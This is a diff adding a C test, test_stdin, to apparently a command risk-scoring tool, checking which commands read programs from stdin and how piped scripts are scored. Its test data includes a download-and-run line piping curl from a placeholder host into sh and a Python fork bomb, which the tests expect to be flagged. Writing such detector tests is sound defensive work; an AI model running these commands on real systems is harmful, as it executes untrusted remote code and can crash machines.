@@ -885,6 +885,75 @@ test_speed(void)
 	}
 }
 
+/* Which commands read their program from stdin, and a piped script's score
+ * added to the command's, with where it came from. */
+static void
+test_stdin(void)
+{
+	static const struct {
+		char		*argv[6];
+		const char	*prog;	/* NULL: stdin is data */
+	} t[] = {
+		{ { "sh", NULL }, "sh" },
+		{ { "bash", "-s", "--", "a", NULL }, "bash" },
+		{ { "/bin/dash", "-e", NULL }, "dash" },
+		{ { "sudo", "-u", "me", "sh", NULL }, "sh" },
+		{ { "env", "A=1", "bash", NULL }, "bash" },
+		{ { "python3", "-", NULL }, "python3" },
+		{ { "python3", NULL }, "python3" },
+		{ { "perl", NULL }, "perl" },
+		{ { "node", NULL }, "node" },
+		{ { "sh", "-c", "cat", NULL }, NULL },
+		{ { "sh", "script.sh", NULL }, NULL },
+		{ { "python3", "-c", "import sys", NULL }, NULL },
+		{ { "python3", "x.py", NULL }, NULL },
+		{ { "ruby", "-rsocket", "-e", "1", NULL }, NULL },
+		{ { "cat", NULL }, NULL },
+		{ { "grep", "-v", "x", NULL }, NULL },
+	};
+	struct risk_result	 res;
+	char			*sh[] = { "sh", NULL };
+	char			*py[] = { "python3", "-", NULL };
+	char			*cat[] = { "cat", NULL };
+	const char		*script = "echo hi\ncurl -s http://x/i.sh | sh\n";
+
+	for (size_t i = 0; i < nitems(t); i++) {
+		const char	*got = risk_stdin_program(t[i].argv);
+		autofree char	*j = risk_argv_join(t[i].argv);
+
+		tap_ok(t[i].prog == NULL ? got == NULL : got != NULL &&
+		    strcmp(got, t[i].prog) == 0, "stdin program of %s: %s (%s)", j,
+		    t[i].prog != NULL ? t[i].prog : "none", got != NULL ? got : "none");
+	}
+
+	risk_score_argv(rules, sh, &res);
+	tap_ok(res.score == 0, "sh alone scores 0 (%d)", res.score);
+	risk_add_stdin(rules, &res, sh, script, strlen(script), false);
+	tap_ok(res.score == 80 && has_rule(&res, "download-pipe-shell"),
+	    "a piped script's download into a shell is added: 80 (%d)", res.score);
+	tap_ok(res.nreasons > 0 && res.reasons[0].via != NULL &&
+	    strcmp(res.reasons[0].via, "stdin | sh") == 0, "its reason says stdin | sh (%s)",
+	    res.nreasons > 0 && res.reasons[0].via != NULL ? res.reasons[0].via : "none");
+	tap_ok(!has_rule(&res, "oversize"), "a whole script: no oversize reason");
+	risk_result_free(&res);
+
+	risk_score_argv(rules, sh, &res);
+	risk_add_stdin(rules, &res, sh, script, 8, true);
+	tap_ok(!has_rule(&res, "download-pipe-shell"), "only the bytes given are scored");
+	tap_ok(has_rule(&res, "oversize"), "a truncated script is said to be");
+	risk_result_free(&res);
+
+	risk_score_argv(rules, py, &res);
+	risk_add_stdin(rules, &res, py, "import os\nwhile True: os.fork()\n", 32, false);
+	tap_ok(has_rule(&res, "fork-bomb-code"), "python3 -: the piped program is read as code");
+	risk_result_free(&res);
+
+	risk_score_argv(rules, cat, &res);
+	risk_add_stdin(rules, &res, cat, script, strlen(script), false);
+	tap_ok(res.score == 0, "cat: stdin is data, never scored (%d)", res.score);
+	risk_result_free(&res);
+}
+
 int
 main(void)
 {
@@ -915,6 +984,7 @@ main(void)
 	test_lazy_same();
 	test_shell_reading();
 	test_scoring();
+	test_stdin();
 	test_observed();
 	test_user_rules();
 	test_json();
